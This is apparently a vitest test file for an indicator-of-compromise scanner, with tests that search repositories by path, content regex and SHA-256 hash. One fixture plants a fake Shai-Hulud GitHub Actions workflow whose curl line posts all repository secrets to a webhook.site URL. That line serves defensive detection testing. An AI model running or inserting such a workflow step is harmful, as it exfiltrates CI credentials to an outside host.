import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { buildReportView } from '../../src/report/index.js'
import { startRun } from '../../src/runner/run.js'
import { listFiles, searchFiles } from '../../src/sources/local/files.js'
import { getStep } from '../../src/steps/index.js'

let tmp: string
let repo: string
const BUNDLE = 'malicious bundle\n'
const BUNDLE_SHA = createHash('sha256').update(BUNDLE).digest('hex')

function put(file: string, content: string | Buffer): void {
  mkdirSync(dirname(join(repo, file)), { recursive: true })
  writeFileSync(join(repo, file), content)
}

beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'firebreak-find-files-'))
  repo = join(tmp, 'api')
  put('package.json', '{ "name": "api" }\n')
  put('.github/workflows/shai-hulud-workflow.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n')
  put('dist/bundle.js', BUNDLE)
  put('node_modules/evil/bundle.js', BUNDLE)
  put('.git/hooks/bundle.js', BUNDLE)
  put('big.txt', 'webhook.site/ffffffff\n'.repeat(60_000))
  put('image.png', Buffer.from([0x89, 0x50, 0x00, 0x01, 0x77, 0x65, 0x62]))
})
afterAll(() => rmSync(tmp, { recursive: true, force: true }))

describe('listFiles', () => {
  it('lists every file, sorted, and skips node_modules and .git', async () => {
    const { files } = await listFiles(repo)
    expect(files.map((f) => f.path)).toEqual(['.github/workflows/shai-hulud-workflow.yml', 'big.txt', 'dist/bundle.js', 'image.png', 'package.json'])
  })
})

describe('searchFiles', () => {
  it('finds paths by glob, content by regular expression with its line, and files by SHA-256', async () => {
    const result = await searchFiles(repo, 'api', {
      paths: ['**/shai-hulud-workflow.yml', '**/bundle.js'],
      content: ['webhook\\.site/[0-9a-f-]+'],
      hashes: [{ sha256: BUNDLE_SHA.toUpperCase(), name: 'bundle.js variant 1' }],
    })
    expect(result.matches).toEqual([
      { kind: 'path', file: '.github/workflows/shai-hulud-workflow.yml', rule: '**/shai-hulud-workflow.yml' },
      { kind: 'content', file: '.github/workflows/shai-hulud-workflow.yml', line: 5, rule: 'webhook\\.site/[0-9a-f-]+', excerpt: 'webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7' },
      { kind: 'path', file: 'dist/bundle.js', rule: '**/bundle.js' },
      { kind: 'hash', file: 'dist/bundle.js', rule: BUNDLE_SHA, sha256: BUNDLE_SHA, name: 'bundle.js variant 1' },
    ])
    // big.txt (over 1 MB) is not searched for content; binary files are not either.
    expect(result.errors).toEqual([])
    expect(result.filesSeen).toBe(5)
  })

  it('is bounded: file size, total bytes and matches', async () => {
    const many = await searchFiles(repo, 'api', { content: ['webhook'], maxFileBytes: 10_000_000, maxMatches: 10 })
    expect(many.matches).toHaveLength(10)
    expect(many.truncated).toMatch(/stopped at 10 matches/)
    const total = await searchFiles(repo, 'api', { content: ['webhook'], maxFileBytes: 10_000_000, maxTotalBytes: 1000 })
    expect(total.truncated).toMatch(/content search stopped after \d+ bytes/)
    const hashed = await searchFiles(repo, 'api', { hashes: [{ sha256: BUNDLE_SHA }], maxHashBytes: 10_000 })
    expect(hashed.errors.map((e) => e.file)).toEqual(['big.txt'])
  })

  it('stops a catastrophic regular expression and says so, instead of hanging', async () => {
    put('redos/input.txt', 'a'.repeat(40) + 'b\n')
    const started = Date.now()
    const result = await searchFiles(repo, 'api', { content: ['^(a+)+$'], contentPaths: ['redos/**'], regexTimeoutMs: 200 })
    expect(Date.now() - started).toBeLessThan(5000)
    expect(result.errors).toEqual([{ file: 'redos/input.txt', message: 'content pattern "^(a+)+$" took longer than 200 ms; it was not searched further in this repository' }])
    rmSync(join(repo, 'redos'), { recursive: true })
  })
})

describe('the find-files step', () => {
  function playbook(name: string, body: string): string {
    const file = join(tmp, name)
    writeFileSync(file, `name: ${name}\n${body}`)
    return file
  }

  it('journals matches per repository, sets its outputs and feeds the report', async () => {
    const clean = join(tmp, 'clean')
    mkdirSync(clean, { recursive: true })
    writeFileSync(join(clean, 'README.md'), 'nothing here\n')
    const pb = playbook('iocs.yml', `repos: { dirs: [${JSON.stringify(repo)}, ${JSON.stringify(clean)}] }
steps:
  - id: iocs
    uses: find-files
    with:
      paths: ["**/shai-hulud-workflow.yml"]
      hashes: [{ sha256: "${BUNDLE_SHA}", name: "bundle.js" }]
`)
    const result = await startRun({ playbookFile: pb, runsDir: join(tmp, 'runs') })
    expect(result.state).toBe('completed')
    expect(result.outcome).toBe('affected')
    expect(result.steps[0]).toMatchObject({ status: 'success', outputs: { matches: 2, 'repos-with-matches': 1, errors: 0 }, actions: { done: 2 } })
    const view = buildReportView(result.dir)
    expect(view.indicators.map((i) => [i.repo, i.kind, i.file, i.name])).toEqual([
      ['api', 'path', '.github/workflows/shai-hulud-workflow.yml', null],
      ['api', 'hash', 'dist/bundle.js', 'bundle.js'],
    ])
    expect(view.risks.map((r) => r.title)).toContain('Indicators of compromise were found')
  })

  it('refuses an organisation with no scan before it, and a bad regular expression', async () => {
    const org = await startRun({ playbookFile: playbook('org.yml', 'repos: { org: acme }\nsteps:\n  - id: f\n    uses: find-files\n    with: { paths: ["x"] }\n'), runsDir: join(tmp, 'runs') })
    expect(org.state).toBe('failed')
    expect(org.error?.message).toContain('find-files on an organisation searches the repositories a scan step listed')
    const bad = await startRun({ playbookFile: playbook('bad.yml', `repos: { dirs: [${JSON.stringify(repo)}] }\nsteps:\n  - id: f\n    uses: find-files\n    with: { content: ["(unclosed"] }\n`), runsDir: join(tmp, 'runs') })
    expect(bad.error?.message).toMatch(/content pattern "\(unclosed": Invalid regular expression/)
  })

  it('checks its with: at least one indicator, strict keys, hashes of 64 hex digits', () => {
    const step = getStep('find-files')!
    expect(step.with.safeParse({}).success).toBe(false)
    expect(step.with.safeParse({ path: ['x'] }).success).toBe(false)
    expect(step.with.safeParse({ hashes: ['abc'] }).success).toBe(false)
    expect(step.with.safeParse({ paths: 'x', content: ['y'], hashes: [BUNDLE_SHA] }).success).toBe(true)
  })
})
